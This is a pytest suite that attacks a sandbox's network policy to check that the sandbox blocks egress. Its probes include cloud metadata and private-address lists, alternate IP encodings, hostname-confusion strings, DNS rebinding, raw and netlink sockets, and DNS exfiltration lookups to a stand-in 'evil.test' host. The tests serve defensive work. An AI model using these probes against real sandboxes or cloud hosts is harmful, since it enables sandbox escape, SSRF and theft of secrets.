"""Attacks on the network policy of a sandbox (docs/attacks.md, NW). Servers and name servers are on loopback; nothing leaves this machine."""
import json
import socket
import threading
import time

import pytest
from conftest import wait_until
from names import NameServer
from server import Server

PROBE = """
import json, socket, struct, sys
answers = {}
def attempt(name, work):
    try:
        answers[name] = work() or "done"
    except OSError as error:
        answers[name] = f"{error.errno} {error.strerror or error}"
    except Exception as error:
        answers[name] = f"{type(error).__name__} {error}"
def connect(host, port, family=0):
    def work():
        with socket.create_connection((host, port), 5) as line:
            return "connected"
    return work
def send(family, address):
    def work():
        with socket.socket(family, socket.SOCK_DGRAM) as line:
            line.sendto(b"x", address)
            return "sent"
    return work
"""


class Trap:
    """Listens on loopback and counts who comes."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.came = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                line, peer = self.socket.accept()
            except OSError:
                return
            self.came.append(peer)
            line.sendall(b"hello\n")
            line.close()


@pytest.fixture(scope="module")
def trap():
    trap = Trap()
    yield trap
    trap.socket.close()


@pytest.fixture(scope="module")
def names():
    changing = iter([["203.0.113.1"]] + [["127.0.0.1"]] * 100)
    with NameServer(ok_test=["127.0.0.1"], inside_test=["127.0.0.1"], mixed_test=["10.1.2.3", "127.0.0.1"]) as names:
        names.names["rebind.test"] = lambda kind: next(changing)
        yield names


@pytest.fixture(scope="module")
def served(names):
    with Server("--resolver", names.address) as server:
        yield server


@pytest.fixture(scope="module")
def listed(served, trap):
    """A sandbox that may reach ok.test at the trap's port, and nothing else."""
    return served.create(network={"mode": "allow", "allow": [f"ok.test:{trap.port}", f"127.0.0.1:{trap.port}"]})


@pytest.fixture(scope="module")
def public(served):
    return served.create(network="public")


def probe(server, box, body, **values):
    setup = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    result = server.exec(box, "python3", "-c", PROBE + setup + body + "\nprint(json.dumps(answers))", timeoutSeconds=60)
    assert result["exitCode"] == 0, result
    return json.loads(result["stdout"])


PLACES = """
for host in ("10.0.0.1", "192.168.1.1", "172.16.0.1", "169.254.169.254", "100.100.100.200", "fd00:ec2::254", "fe80::1%lo"):
    attempt(host, connect(host, 80))
# Where every name is allowed, one that leads nowhere is found out after the connection is taken.
attempt("metadata.google.internal", lambda: socket.create_connection(("metadata.google.internal", 80), 5).recv(10).decode() or "ended")
"""


@pytest.mark.parametrize("kind", ["none", "allow", "public"])
def test_NW_01_the_host_the_lan_and_metadata_are_unreachable(served, listed, public, trap, kind):
    box = {"none": served.create(), "allow": listed, "public": public}[kind]
    before = len(trap.came)
    answers = probe(served, box, PLACES + "attempt('loopback', connect('127.0.0.1', port))", port=trap.port)
    assert answers.pop("loopback").startswith("111 "), "the sandbox's own loopback, on which nobody listens"
    for host, answer in answers.items():
        assert answer.startswith(("101 ", "-2 ", "22 ", "113 ", "104 ")), (host, answer)
    assert len(trap.came) == before


@pytest.mark.parametrize("kind", ["none", "allow"])
def test_NW_02_udp_and_broadcast_go_nowhere(served, listed, kind):
    box = listed if kind == "allow" else served.create()
    answers = probe(served, box, """
attempt("udp", send(socket.AF_INET, ("198.51.100.1", 53)))
attempt("synthetic", send(socket.AF_INET, ("198.18.0.1", 123)))
attempt("mdns", send(socket.AF_INET, ("224.0.0.251", 5353)))
attempt("broadcast", send(socket.AF_INET, ("255.255.255.255", 9)))
""")
    assert not [name for name, answer in answers.items() if answer == "sent"], answers


def test_NW_03_ipv6_is_no_way_around(served, listed):
    answers = probe(served, listed, """
for host in ("2001:db8::1", "ff02::1", "::ffff:203.0.113.1", "64:ff9b::a00:1"):
    attempt(host, connect(host, 443))
attempt("udp", send(socket.AF_INET6, ("2001:db8::1", 53)))
""")
    assert all(answer.startswith(("101 ", "99 ", "13 ", "1 ")) for answer in answers.values()), answers


def test_NW_04_vsock_is_denied(served, public):
    answers = probe(served, public, "attempt('vsock', lambda: str(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)))")
    assert answers["vsock"].startswith(("97 ", "1 ")), answers


def test_NW_06_NW_07_what_is_not_listed_has_no_route(served, listed, trap):
    answers = probe(served, listed, """
attempt("listed", connect("ok.test", port))
attempt("another port", connect("ok.test", port + 1))
attempt("another address", connect("203.0.113.9", port))
attempt("past the proxy", connect("198.51.100.7", 443))
""", port=trap.port)
    assert answers.pop("listed") == "connected"
    assert all(answer == "101 Network is unreachable" for answer in answers.values()), answers


def test_NW_08_only_the_exact_name_passes(served, listed, trap):
    answers = probe(served, listed, r"""
for name in ("ok.test.evil.test", "evil.test#ok.test", "ok.test@evil.test", " ok.test", "ok.test%00.evil.test", "xn--k-fga.test", "o\u043a.test", "a" * 300 + ".test", "ok.test..", "test", "ok"):
    attempt(name, connect(name, port))
for name in ("ok.test", "OK.test", "ok.test."):
    attempt(name, connect(name, port))
""", port=trap.port)
    for name in ("ok.test", "OK.test", "ok.test."):
        assert answers.pop(name) == "connected"
    assert "connected" not in answers.values(), answers


def test_NW_09_addresses_written_otherwise_are_not_names(served, public, trap):
    before = len(trap.came)
    answers = probe(served, public, """
for host in ("127.1", "0x7f000001", "2130706433", "0", "::ffff:127.0.0.1", "::", "0251.0376.0251.0376", "2852039166"):
    attempt(host, connect(host, port))
""", port=trap.port)
    assert "connected" not in answers.values() and len(trap.came) == before, answers


def test_NW_10_a_name_that_changes_its_address_is_judged_each_time(served, trap):
    box = served.create(network={"mode": "allow", "allow": ["rebind.test"]})
    before = len(trap.came)
    answers = probe(served, box, "for n in range(4): attempt(str(n), lambda: socket.create_connection(('rebind.test', port), 3).recv(10).decode())", port=trap.port)
    assert "hello\n" not in answers.values() and len(trap.came) == before, answers


def test_NW_11_inside_addresses_among_others_are_not_dialled(served, trap):
    box = served.create(network={"mode": "allow", "allow": ["mixed.test", "inside.test"]})
    before = len(trap.came)
    answers = probe(served, box, "for name in ('mixed.test', 'inside.test'): attempt(name, lambda: socket.create_connection((name, port), 3).recv(10).decode())", port=trap.port)
    assert "hello\n" not in answers.values() and len(trap.came) == before, answers


def test_NW_16_names_carry_nothing_out(served, listed, names):
    before = len(names.asked)
    probe(served, listed, """
for n in range(300):
    attempt("x", lambda: socket.getaddrinfo(f"secret-{n}.evil.test", 80))
query = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x04evil\\x04test\\x00" + bytes.fromhex("00010001")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    for n in range(300):
        attempt("raw", lambda: line.sendto(query, ("127.0.0.1", 53)))
""")
    assert names.asked[before:] == []


def test_NW_17_other_name_servers_only_if_listed(served, listed):
    answers = probe(served, listed, """
for port in (53, 443, 853):
    attempt(str(port), connect("9.9.9.9", port))
""")
    assert set(answers.values()) == {"101 Network is unreachable"}, answers


def test_NW_18_NW_20_raw_sockets_and_netlink_change_nothing(served, public):
    answers = probe(served, public, """
attempt("icmp", lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
attempt("ping", lambda: str(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)))
attempt("packet", lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as line:
        line.send(struct.pack("=IHHII", 28, 24, 0x605, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0))
        error = struct.unpack("=i", line.recv(1000)[16:20])[0]
        if error: raise OSError(-error, "refused")
attempt("route", route)
""")
    assert all(answer.split()[0] in ("1", "13", "93", "97") for answer in answers.values()), answers


def test_NW_21_connections_at_once_are_capped(served, trap):
    box = served.create(network={"mode": "allow", "allow": ["ok.test", "127.0.0.1"], "caps": {"connections": 5}})
    holder = socket.create_server(("127.0.0.1", 0))
    held = []
    threading.Thread(target=lambda: [held.append(holder.accept()) for _ in range(5)], daemon=True).start()
    answers = probe(served, box, """
lines = []
def one():
    line = socket.create_connection(("ok.test", port), 5)
    line.settimeout(1)
    lines.append(line)
    try:
        return "ended" if line.recv(1) == b"" else "data"
    except TimeoutError:
        return "open"
for n in range(8): attempt(str(n), one)
""", port=holder.getsockname()[1])
    holder.close()
    assert list(answers.values()).count("open") == 5, answers
    assert len(held) == 5
    refused = [one for one in served.get(f"/v1/sandboxes/{box}/network/log?limit=1000").json["records"] if "caps" in str(one.get("rule"))]
    assert refused


def test_NW_21_what_was_spent_is_spent_for_new_connections_too(served, trap):
    heard = []
    listener = socket.create_server(("127.0.0.1", 0))

    def hear():
        while True:
            try:
                line, _ = listener.accept()
                while data := line.recv(65536):
                    heard.append(len(data))
            except ConnectionResetError:
                pass
            except OSError:
                return
    threading.Thread(target=hear, daemon=True).start()
    box = served.create(network={"allow": ["ok.test", "127.0.0.1"], "caps": {"bytes": 10_000}})
    answers = probe(served, box, """
def one():
    with socket.create_connection(("ok.test", port), 5) as line:
        line.settimeout(5)
        line.sendall(b"x" * 4000)
        line.shutdown(socket.SHUT_WR)
        return str(len(line.recv(1)))
for n in range(20): attempt(str(n), one)
""", port=listener.getsockname()[1])
    listener_port = listener.getsockname()[1]
    listener.close()
    assert sum(heard) <= 10_000, (sum(heard), answers)
    refused = [one for one in served.get(f"/v1/sandboxes/{box}/network/log?limit=1000").json["records"] if one.get("rule") == "caps.bytes"]
    assert refused and refused[-1]["verdict"] == "denied", "new ones are refused before a packet exists"
    told = served.exec(box, "curl", "-sS", f"http://ok.test:{listener_port}/")
    assert "caps.bytes" in told["stderr"], told


def test_NW_06_a_connection_that_is_being_made_when_the_policy_changes_is_judged_by_the_new_one(served):
    """A change with "existing": "check" between the first packet and the answer to it."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(0)
    port = listener.getsockname()[1]
    full = [socket.socket() for _ in range(2)]  # the queue of the listener is full: the next SYN has no answer
    for one in full:
        one.setblocking(False)
        one.connect_ex(("127.0.0.1", port))
    time.sleep(0.2)
    box = served.create(network={"allow": ["ok.test", "127.0.0.1"]})
    process = served.start_process(box, "python3", "-c", f"""
import socket
line = socket.create_connection(("ok.test", {port}), 30)
line.settimeout(30)
print("connected", flush=True)
try: print("got", line.recv(10))
except OSError as error: print("ended", error.errno)
""")
    assert wait_until(lambda: "connected" in served.output(box, process["id"]))
    time.sleep(0.5)
    answer = served.put(f"/v1/sandboxes/{box}/network", {"allow": ["other.test"], "existing": "check"})
    assert answer.status == 200, answer
    listener.listen(16)
    listener.settimeout(5)
    accepted = []
    try:
        while True:
            line = listener.accept()[0]
            line.sendall(b"secret")
            accepted.append(line)
    except OSError:
        pass
    assert wait_until(lambda: "ended 104" in served.output(box, process["id"]), 10), served.output(box, process["id"])
    assert len(accepted) == len(full)
    for one in [*full, *accepted, listener]:
        one.close()


@pytest.mark.parametrize("field", [{"network": "host"}, {"network": {"mode": "host"}}, {"network": {"mode": "allow", "resolver": "8.8.8.8"}}, {"network": {"mode": "allow", "ca": "x"}}])
def test_NW_27_settings_that_are_the_operators_are_refused(served, field):
    answer = served.post("/v1/sandboxes", field)
    assert answer.status == 400 and "network" in str(answer.json), answer
